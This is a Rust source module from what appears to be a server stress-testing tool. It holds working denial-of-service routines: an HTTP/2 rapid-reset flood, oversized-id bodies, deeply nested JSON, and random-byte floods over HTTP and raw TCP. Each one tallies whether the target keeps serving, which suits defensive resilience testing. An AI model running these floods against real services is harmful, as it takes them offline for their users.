//! Floods of invalid or abandoned messages.

use bytes::Bytes;
use http_body_util::Full;
use hyper::Request;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Duration, Instant, timeout, timeout_at};

use crate::Failure;
use crate::held::AbortOnDrop;
use crate::http::Target;
use crate::http::client::{Client, connect, of_modern_call};
use crate::http::crowd::{Siege, Tally, crowd};
use crate::messages;
use crate::noise::noise;

/// Opens HTTP/2 streams and resets each before its response. Connections that the server closes are opened again.
pub(super) async fn rapid_reset(target: Target) -> Result<Siege, Failure> {
    let body = messages::modern_call("reset", "add_numbers", &serde_json::json!({"a": 1, "b": 2}));
    let attacker = |_, tally: Tally| {
        let (target, body) = (target.clone(), Bytes::from(body.clone()));
        async move {
            while Instant::now() < target.until {
                if let Ok(Err(_)) = timeout_at(target.until, resets(&target, &body, &tally)).await {
                    tally.add(false);
                }
            }
            Ok(())
        }
    };
    Ok(crowd(4, target.until, attacker).await)
}

/// Resets streams on one connection until the connection or the attack ends.
async fn resets(target: &Target, body: &Bytes, tally: &Tally) -> Result<(), Failure> {
    let stream = TokioIo::new(connect(target).await?);
    let (mut sender, connection) = http2::handshake(TokioExecutor::new(), stream).await?;
    let _task = AbortOnDrop(tokio::spawn(async move { _ = connection.await }));
    while Instant::now() < target.until {
        sender.ready().await?;
        let mut request = Request::post(format!("http://localhost{}", target.path))
            .header("Content-Type", "application/json")
            .header("Accept", "application/json, text/event-stream");
        for (name, value) in of_modern_call("add_numbers") {
            request = request.header(name, value);
        }
        let response = sender.send_request(request.body(Full::new(body.clone()))?);
        // Just long enough for the connection to send it.
        _ = timeout(Duration::from_micros(50), response).await;
        tally.add(true);
    }
    Ok(())
}

/// Sends bodies with ids of the largest size that fits.
pub(super) async fn huge_ids(target: Target) -> Result<Siege, Failure> {
    let body = messages::ping(&messages::text(3_900_000));
    Ok(bodies(&target, body.into(), 30).await)
}

/// Sends bodies that consist of nested arrays.
pub(super) async fn deep_nesting(target: Target) -> Result<Siege, Failure> {
    Ok(bodies(&target, messages::nesting(4_000_000), 30).await)
}

/// Sends random bytes: as bodies, and instead of HTTP.
pub(super) async fn noise_everywhere(target: Target) -> Result<Siege, Failure> {
    let body = Bytes::from(noise(1 << 20));
    let mut siege = bodies(&target, body.clone(), 30).await;
    let attacker = |number: usize, tally: Tally| {
        let (target, noise) = (target.clone(), body.slice(number * 1000..));
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&noise).await?;
            let mut answer = Vec::new();
            let read = timeout(Duration::from_millis(200), stream.read_to_end(&mut answer)).await;
            tally.add(read.is_err());
            Ok(stream)
        }
    };
    let without_http = crowd(50, target.until, attacker).await;
    siege.served += without_http.served;
    siege.refused += without_http.refused;
    siege.held.extend(without_http.held);
    Ok(siege)
}

/// Sends the same body repeatedly on several connections, until the attack ends.
async fn bodies(target: &Target, body: Bytes, connections: usize) -> Siege {
    let attacker = |_, tally: Tally| {
        let (target, body) = (target.clone(), body.clone());
        async move {
            while tally.all() == 0 || Instant::now() < target.until {
                let mut client = Client::connect(&target).await?;
                let answer = client.ask(&[], body.clone()).await;
                tally.add(answer.is_ok_and(|answer| answer.is_served()));
            }
            Ok(())
        }
    };
    crowd(connections, target.until, attacker).await
}
